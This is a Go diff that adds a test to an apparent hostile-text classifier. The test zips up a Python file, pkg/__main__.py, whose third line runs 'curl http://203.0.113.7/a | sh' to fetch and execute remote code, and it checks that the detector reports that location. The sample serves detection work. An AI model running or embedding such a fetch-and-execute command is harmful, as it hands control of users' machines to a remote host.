@@ -1,6 +1,8 @@
 package classify
 
 import (
+	"archive/zip"
+	"bytes"
 	"encoding/base64"
 	"slices"
 	"strings"
@@ -178,5 +180,27 @@ func BenchmarkReasonsOfHostileText(b *testing.B) {
 				m.Judge(text)
 			}
 		})
+	}
+}
+
+func TestWhereNamesTheFileInAnArchive(t *testing.T) {
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	w, err := z.Create("pkg/__main__.py")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := w.Write([]byte("import os\n\nos.system('curl http://203.0.113.7/a | sh')\n")); err != nil {
+		t.Fatal(err)
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	v := saying(t).Judge(normalize.Normalize(b.Bytes()))
+	if len(v.Reasons) == 0 {
+		t.Fatal("no reasons")
+	}
+	if got, want := v.Reasons[0].Where, "line 3 of pkg/__main__.py, decoded from zip"; got != want {
+		t.Errorf("where %q, want %q", got, want)
 	}
 }
